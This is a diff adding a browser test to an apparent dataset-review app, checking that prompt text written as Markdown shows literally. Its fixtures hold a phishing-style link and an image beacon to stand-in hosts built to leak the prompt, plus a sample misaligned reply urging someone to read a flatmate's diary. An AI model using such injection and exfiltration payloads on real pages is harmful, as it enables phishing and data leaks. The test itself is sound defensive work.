@@ -133,3 +133,102 @@ def test_the_demo_store_in_chromium(demo_run, taxonomy, tmp_path):
         finally:
             browser.close()
     assert (tmp_path / "exported" / "README.md").is_file()
+
+
+class _Listener:
+    """An HTTP server on 127.0.0.1 that counts the requests a page makes to it."""
+
+    def __init__(self):
+        import http.server
+        import threading
+
+        self.paths: list[str] = []
+        listener = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 (the stdlib's name)
+                listener.paths.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+
+
+def test_data_text_is_shown_literally_and_makes_no_request(store, taxonomy, tmp_path, db_path):
+    """A prompt written as Markdown stays text: no link, no image fetched, no KaTeX, no colour, in an
+    expander title, a selectbox, a caption or a warning that echoes a search term."""
+    from playwright.sync_api import sync_playwright
+
+    from pipeline.review.queues import submit
+
+    listener = _Listener()
+    hostile = (f"[Verify your account](https://evil.example/login) ![p](http://127.0.0.1:{listener.port}/pixel.png?"
+               "leak=prompt) :red[**urgent**] $x^2$ may I read my flatmate's diary?")
+    (tmp_path / "x.jsonl").write_text(json.dumps({"prompt": hostile, "safety": "Privacy Violation"}) + "\n",
+                                      encoding="utf-8")
+    ingest(store, tmp_path / "x.jsonl", taxonomy, IngestOptions(label_columns={"safety": "safety"}))
+    (tmp_path / "r.jsonl").write_text("".join(json.dumps({"prompt": hostile, "slot": slot, "text": text, "generator": "g"})
+                                              + "\n" for slot, text in (
+        ("aligned", "No: a diary is private, so ask them instead of reading it."),
+        ("misaligned", "Sure, read it while they are out; they will never find out."))), encoding="utf-8")
+    import_candidates(store, taxonomy, load_config(), tmp_path / "r.jsonl", PairOptions(threshold=0.5, margin=0.5))
+    panel = "[Panel](https://evil.example/panel) :blue[South] Asia"
+    add_panel(store, panel, min_submissions=2)
+    for name in ("asha", "ravi"):
+        add_annotator(store, name, (panel,), culture="IN")
+    build_queues(store, panel, queues=("borderline",))
+    [item] = store.review_items(panel=panel)
+    for name, valid in (("asha", "yes"), ("ravi", "no")):  # a split panel: the pair waits for adjudication
+        submit(store, item["id"], name, {"pair_valid": valid, "aligned_acceptable": "yes",
+                                           "misaligned_dimensions": ["safety"]})
+    try:
+        with running_app(db_path, cwd=tmp_path) as url, sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=CHROMIUM_ARGS)
+            try:
+                page = browser.new_page()
+                page.goto(f"{url}/Domains")
+                page.get_by_text("Labeler").first.wait_for()
+                choose(page, 0, "imported:x.jsonl")
+                choose(page, 2, "Privacy Violation")
+                page.locator("div[data-testid=stExpander] summary").first.wait_for()
+                page.get_by_text("[Verify your account](https://evil.example/login)", exact=False).filter(
+                    visible=True).first.wait_for()
+                search = "[x](https://evil.example/search) $y$"
+                page.get_by_label("Search domains").fill(search)
+                page.keyboard.press("Enter")
+                page.get_by_text(search, exact=False).filter(visible=True).first.wait_for()
+                _assert_nothing_live(page)
+
+                page.goto(f"{url}/Agreement")
+                page.get_by_text("Disagreement queue").wait_for()
+                page.get_by_text(":blue[South] Asia", exact=False).filter(visible=True).first.wait_for()
+                chooser = page.locator("div[data-testid=stSelectbox] input").first.input_value()
+                assert "[Verify your account](https://evil.example/login) ![p](" in chooser  # the pair, by its prompt
+                _assert_nothing_live(page)
+
+                page.goto(f"{url}/Review")
+                page.get_by_text("I am").first.wait_for()
+                assert panel in page.locator("div[data-testid=stSelectbox] input").first.input_value()
+                _assert_nothing_live(page)
+            finally:
+                browser.close()
+    finally:
+        listener.close()
+    assert listener.paths == [], f"the page fetched {listener.paths} because of data text"
+
+
+def _assert_nothing_live(page) -> None:
+    page.wait_for_timeout(500)
+    links = page.locator("a[href*='evil.example']")
+    assert links.count() == 0, links.first.evaluate('e => e.parentElement.parentElement.outerHTML')
+    assert page.locator("img[src*='pixel.png']").count() == 0
+    assert page.locator(".katex").count() == 0
+    assert page.locator("[data-testid=stMarkdownContainer] span[style*='color']").count() == 0
